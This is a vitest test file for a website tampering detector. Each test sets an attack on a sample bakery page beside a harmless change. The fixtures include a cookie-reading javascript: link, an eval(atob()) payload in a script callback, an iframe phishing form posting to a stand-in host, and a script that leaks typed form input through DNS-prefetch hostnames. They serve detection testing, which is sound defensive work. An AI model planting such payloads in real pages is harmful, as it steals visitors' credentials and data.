/**
 * The rules of round 8 (tuned on fresh5, before fresh6 was read), on the
 * hand-written bakery page: each with the change it catches and the honest
 * change beside it that it leaves alone.
 */
import { describe, expect, it } from "@effect/vitest"
import { baselineOf, breaches, checks, page, samples, verdictOf } from "../support/pages.js"

describe("round 8: code in javascript: URLs, forms on form services", () => {
  it("a javascript: URL is read as code: a link or frame that only opens a dialog alerts; javascript:void(0) does not", () => {
    expect(breaches(verdictOf(page({ seed: 4, body: `<p>guest wrote: <a href="javascript:alert(document.cookie)">click me</a></p>` })))).toContain("destinations/script_probe")
    expect(breaches(verdictOf(page({ seed: 4, body: `<iframe src="javascript:alert(%22XSS%22)" width="0" height="0"></iframe>` })))).toContain("destinations/script_probe")
    const menu = verdictOf(page({ seed: 4, body: `<a href="javascript:void(0)" class="menu-toggle">Menu</a>` }))
    expect(menu.alert).toBe(false)
  })

  it("a new link to a form on a form service is a sign; the same link in every sample is not new", () => {
    const survey = `<p>Tell us what you think of our new sourdough: <a href="https://docs.google.com/forms/d/e/1FAIpQLSf0abc/viewform">take the survey</a></p>`
    const v = verdictOf(page({ seed: 4, body: survey }))
    expect(checks(v)).toContain("destinations/link_hosted_form")
    const always = baselineOf(samples((seed) => page({ seed, body: survey })))
    expect(checks(verdictOf(page({ seed: 4, body: survey }), always))).not.toContain("destinations/link_hosted_form")
    expect(v.findings.find((f) => f.check === "link_hosted_form")!.severity).toBe("medium")
    // a link to the form service's home page is not a form
    expect(checks(verdictOf(page({ seed: 4, body: `<p>We use <a href="https://www.typeform.com/">Typeform</a>.</p>` })))).not.toContain("destinations/link_hosted_form")
  })
})

describe("round 8 (after fresh6's first look): where codes, forwards and subscriptions lead; what the page asks and tells", () => {
  const qr = (data: string) => `<img src="https://api.qrserver.com/v1/create-qr-code/?size=200x200&amp;data=${encodeURIComponent(data)}" alt="QR">`

  it("a QR code is followed to what it encodes: to the site's own page nothing, to a device-link code or a new domain an alarm", () => {
    const own = verdictOf(page({ seed: 4, body: `<p>Our menu on your phone: ${qr("https://www.harbourbakery.co.uk/menu")}</p>` }))
    expect(own.alert).toBe(false)
    const link = verdictOf(page({ seed: 4, body: `<p>Join our group: ${qr("sgnl://linkdevice?uuid=abc123&pub_key=BQx")}</p>` }))
    expect(breaches(link)).toContain("destinations/link_local_handler")
    const elsewhere = verdictOf(page({ seed: 4, body: `<p>Scan: ${qr("https://harbour-prizes.example.net/claim")}</p>` }))
    expect(breaches(elsewhere)).toContain("destinations/qr_new_domain")
    // a QR code to a payment provider or an app store is a provider's link
    expect(checks(verdictOf(page({ seed: 4, body: `<p>Tip us: ${qr("https://www.paypal.com/donate/?hosted_button_id=HARBOUR1")}</p>` })))).not.toContain("destinations/qr_new_domain")
  })

  it("a link of the site that forwards to another site leads there: an existing link turned into a forward alerts", () => {
    const base = baselineOf(samples((seed) => page({ seed, body: `<a href="/order">Order a cake</a>` })))
    const v = verdictOf(page({ seed: 4, body: `<a href="/out?url=https%3A%2F%2Fharbour-cakes-order.example.org%2Fpay">Order a cake</a>` }), base)
    expect(breaches(v)).toContain("destinations/link_retargeted")
    // a share button carries the page's own address: it leads to the share service, as before
    const share = verdictOf(page({ seed: 4, body: `<a href="/share?u=https%3A%2F%2Fwww.harbourbakery.co.uk%2Fcakes">Share</a>` }), base)
    expect(share.alert).toBe(false)
  })

  it("a calendar subscription from a domain the page never used alerts; the site's own does not", () => {
    expect(breaches(verdictOf(page({ seed: 4, body: `<a href="webcal://cal-events.example.click/feed.ics">Add our events to your calendar</a>` })))).toContain("destinations/calendar_subscription")
    expect(verdictOf(page({ seed: 4, body: `<a href="webcal://www.harbourbakery.co.uk/events.ics">Add our events</a>` })).alert).toBe(false)
  })

  it("modules named by an import map or preloaded are scripts: from a domain the page never used they alert", () => {
    const map = verdictOf(page({ seed: 4, head: `<script type="importmap">{"imports":{"app":"https://cdn-modules.example.top/app.js"}}</script>` }))
    expect(breaches(map)).toContain("destinations/script_new_domain")
    const pre = verdictOf(page({ seed: 4, head: `<link rel="modulepreload" href="https://cdn-modules.example.top/app.js">` }))
    expect(breaches(pre)).toContain("destinations/script_new_domain")
    const mine = verdictOf(page({ seed: 4, head: `<script type="importmap">{"imports":{"app":"/js/app.js"}}</script><link rel="modulepreload" href="/js/app.js">` }))
    expect(mine.alert).toBe(false)
  })

  it("a script whose address carries code in its callback alerts; a callback named as a function does not", () => {
    expect(breaches(verdictOf(page({ seed: 4, body: `<script src="https://accounts.google.com/o/oauth2/revoke?callback=eval(atob('YWxlcnQoMSk='))//"></script>` })))).toContain("destinations/script_url_code")
    expect(checks(verdictOf(page({ seed: 4, body: `<script src="https://api.example-maps.com/geo?callback=app.onPlaces"></script>` })))).not.toContain("destinations/script_url_code")
  })

  it("the page told to leave search results alerts, unless a sample already said so", () => {
    expect(breaches(verdictOf(page({ seed: 4, head: `<meta name="robots" content="noindex, nofollow">` })))).toContain("destinations/search_removed")
    const hidden = baselineOf(samples((seed) => page({ seed, head: `<meta name="robots" content="noindex">` })))
    expect(checks(verdictOf(page({ seed: 4, head: `<meta name="robots" content="noindex">` }), hidden))).not.toContain("destinations/search_removed")
  })

  it("a form of the page that now asks for a PIN or a one-time code alerts; one that gains a name field does not", () => {
    const form = (extra: string) => `<form action="/account/login" method="post"><input name="email"><input type="password" name="password">${extra}<button>Sign in</button></form>`
    const base = baselineOf(samples((seed) => page({ seed, body: form("") })))
    expect(breaches(verdictOf(page({ seed: 4, body: form(`<input name="card_pin"><input name="otp_code">`) }), base))).toContain("destinations/form_asks_more")
    expect(checks(verdictOf(page({ seed: 4, body: form(`<input name="remember_me" type="checkbox">`) }), base))).not.toContain("destinations/form_asks_more")
    // fields named to say nothing, but a second field that hides what is typed
    expect(breaches(verdictOf(page({ seed: 4, body: form(`<label>Card PIN <input type="password" name="x1" maxlength="4"></label>`) }), base))).toContain("destinations/form_asks_more")
  })

  it("the pointer hidden over the whole page alerts; grey for mourning is reported and does not alert", () => {
    expect(breaches(verdictOf(page({ seed: 4, head: `<style>html,body{cursor:none!important}</style>` })))).toContain("appearance/pointer_hidden")
    expect(checks(verdictOf(page({ seed: 4, head: `<style>.game canvas{cursor:none}</style>` })))).not.toContain("appearance/pointer_hidden")
    const grey = verdictOf(page({ seed: 4, head: `<style>html{filter:grayscale(1)}</style>`, body: `<h2>In memory of our founder</h2><p>The bakery is closed on Friday.</p>` }))
    expect(grey.findings.find((f) => f.check === "page_filtered")?.severity).toBe("low")
  })

  it("a notice at the top sending visitors to a public body (a weather service, the Red Cross) is not an alarm; to another site it is", () => {
    const notice = (href: string) => `<div style="background:#c00;color:#fff;padding:12px"><strong>Storm warning for Friday.</strong> <a href="${href}">Read the latest storm advice</a> before you travel.</div>`
    expect(breaches(verdictOf(page({ seed: 4, top: notice("https://www.metoffice.gov.uk/weather/warnings-and-advice") })))).not.toContain("destinations/link_prominent")
    expect(breaches(verdictOf(page({ seed: 4, top: notice("https://www.redcross.org.uk/donate") })))).not.toContain("destinations/link_prominent")
    expect(breaches(verdictOf(page({ seed: 4, top: notice("https://storm-advice.example.live/") })))).toContain("destinations/link_prominent")
  })

  it("a frame's document written in the page (srcdoc) is read as the page's: its form and its redirect count", () => {
    const form = verdictOf(page({ seed: 4, body: `<iframe srcdoc="<form action='https://verify-harbour.example.top/in' method='post'><input name='email'><input type='password' name='pw'><button>Continue</button></form>" style="border:0;width:100%;height:300px"></iframe>` }))
    expect(breaches(form)).toContain("destinations/form_new_domain")
    const moved = verdictOf(page({ seed: 4, body: `<iframe srcdoc="<script>top.location='https://harbour-deals.example.click/'</script>" width="0" height="0"></iframe>` }))
    expect(moved.alert).toBe(true)
    const video = verdictOf(page({ seed: 4, body: `<iframe srcdoc="<p>Our bakery tour</p><a href='/tour'>Watch</a>" title="tour"></iframe>` }))
    expect(video.alert).toBe(false)
  })

  it("structured data that links to sites the page never used alerts; the site's own does not", () => {
    const ld = (o: unknown) => `<script type="application/ld+json">${JSON.stringify(o)}</script>`
    const spam = verdictOf(page({ seed: 4, head: ld({ "@context": "https://schema.org", "@type": "Organization", name: "Harbour Bakery", sameAs: ["https://cheap-pills-shop.example.top/buy", "https://casino-royal-wins.example.bet/"] }) }))
    expect(breaches(spam)).toContain("destinations/structured_data_links")
    const own = verdictOf(page({ seed: 4, head: ld({ "@context": "https://schema.org", "@type": "Bakery", name: "Harbour Bakery", url: "https://www.harbourbakery.co.uk/", logo: "https://images.example-cdn.net/logo.png", sameAs: ["https://www.instagram.com/harbourbakery"] }) }))
    expect(checks(own)).not.toContain("destinations/structured_data_links")
    expect(own.alert).toBe(false)
  })

  it("a script that reads the form and adds prefetch links to hosts named after it sends what visitors type", () => {
    const v = verdictOf(page({ seed: 4, body: `<script>document.addEventListener("change",function(){var s=[].map.call(document.querySelectorAll("input"),function(i){return i.value}).join("|");var l=document.createElement("link");l.rel="dns-prefetch";l.href="//"+btoa(s).replace(/=/g,"")+".example-cdn-stats.top";document.head.appendChild(l)})</script>` }))
    expect(breaches(v).some((c) => c.startsWith("destinations/script_"))).toBe(true)
  })

  it("a phone number drawn by CSS over the page's own is a new number in a box: an alarm", () => {
    const v = verdictOf(page({ seed: 4, head: `<style>a[href^="tel:"]{font-size:0!important}a[href^="tel:"]::after{content:"0800 555 0199";font-size:15px}</style>` }))
    expect(breaches(v)).toContain("identifiers/phone_in_box")
  })
})

